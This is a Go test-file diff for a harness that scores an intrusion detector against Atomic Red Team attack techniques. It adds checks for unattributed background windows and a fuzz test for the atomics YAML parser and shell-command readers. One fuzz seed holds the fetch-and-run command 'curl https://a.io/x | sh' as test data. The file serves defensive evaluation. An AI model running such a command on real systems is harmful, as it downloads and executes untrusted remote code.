@@ -374,6 +374,10 @@ func TestScoreAtomics(t *testing.T) {
 		{Scenario: "T1059.004-6", Label: LabelAttack, Verdict: VerdictBenign},
 		{Scenario: "T1003.008-3", Label: LabelAttack, Verdict: VerdictMissing},
 		{Scenario: "T1003.008-3", Label: LabelBenign, Verdict: VerdictBenign},
+		// A flagged background window of T1059.004-6's own container that
+		// the labelling left benign: apart from the benign FPR.
+		{Scenario: "T1059.004-6", Function: AtomicFunction, Window: "background", Label: LabelBenign, Verdict: VerdictIntrusion, Source: "supervised"},
+		{Scenario: "T1059.004-6", Function: "product-catalog-api", Window: "background", Label: LabelBenign, Verdict: VerdictBenign},
 	}
 	rep := ScoreAtomics(steps, map[string]string{"T9999-1": "x"}, invs, recs)
 	if rep.Tests != 3 || rep.Techniques != 2 || rep.Caught != 1 || rep.Recall != 1.0/3 {
@@ -391,8 +395,15 @@ func TestScoreAtomics(t *testing.T) {
 	if _, ok := rep.Skipped["T1082-8"]; !ok || rep.Skipped["T9999-1"] != "x" {
 		t.Errorf("skipped %v", rep.Skipped)
 	}
-	if g := rep.Graphs; g.Attack != 3 || g.AttackFlagged != 1 || g.Benign != 2 || g.BenignFlagged != 1 || g.Missing != 1 {
+	if g := rep.Graphs; g.Attack != 3 || g.AttackFlagged != 1 || g.Benign != 3 || g.BenignFlagged != 1 || g.Missing != 1 ||
+		g.Unattributed != 1 || g.UnattributedFlagged != 1 {
 		t.Errorf("graphs %+v", g)
+	}
+	if r := rep.PerTest["T1059.004-6"]; r.Caught || r.UnattributedFlagged != 1 || strings.Join(r.UnattributedBy, ",") != "supervised" {
+		t.Errorf("T1059.004-6 %+v", r)
+	}
+	if rep.RecallWithUnattributed != 2.0/3 {
+		t.Errorf("recall with unattributed windows %v", rep.RecallWithUnattributed)
 	}
 }
 
@@ -424,4 +435,28 @@ func TestMergeReportSection(t *testing.T) {
 	if b, _ := os.ReadFile(p); string(b) != "[1,2]" {
 		t.Errorf("file changed to %s", b)
 	}
+}
+
+// FuzzAtomicsReader: the atomics are read from a checkout the user names,
+// so any bytes must give a result or an error, never a panic; and the
+// selector's readers (prerequisite, shell words, rewriter) must hold up on
+// any command text.
+func FuzzAtomicsReader(f *testing.F) {
+	f.Add([]byte("attack_technique: T1059.004\natomic_tests:\n- name: x\n  supported_platforms: [linux]\n  executor: {name: sh, command: \"curl https://a.io/x | sh\"}\n"), "if [ -x \"$(command -v arp)\" ]; then arp -a; fi")
+	f.Add([]byte("attack_technique: T1\n"), "echo \"$(`echo 'x`)\" #{a}")
+	f.Add([]byte("{"), "$(((((")
+	f.Fuzz(func(t *testing.T, data []byte, cmd string) {
+		tests, err := ParseAtomics("fuzz.yaml", data)
+		if err == nil {
+			SelectAtomics(tests, SelectEnv{Have: fakeHave("sh", "curl")})
+		}
+		ShellCommands(cmd)
+		prereqTools(cmd)
+		out, _ := RewriteTargets(cmd, AttackerIP)
+		if len(out) > 2*len(cmd)+64 {
+			t.Fatalf("rewrite grew %d → %d bytes", len(cmd), len(out))
+		}
+		SelectAtomics([]AtomicTest{{Technique: "T1000", Number: 1, Name: "f", SupportedPlatforms: []string{"linux"},
+			Executor: AtomicExecutor{Name: "bash", Command: cmd}}}, SelectEnv{Have: fakeHave("sh")})
+	})
 }
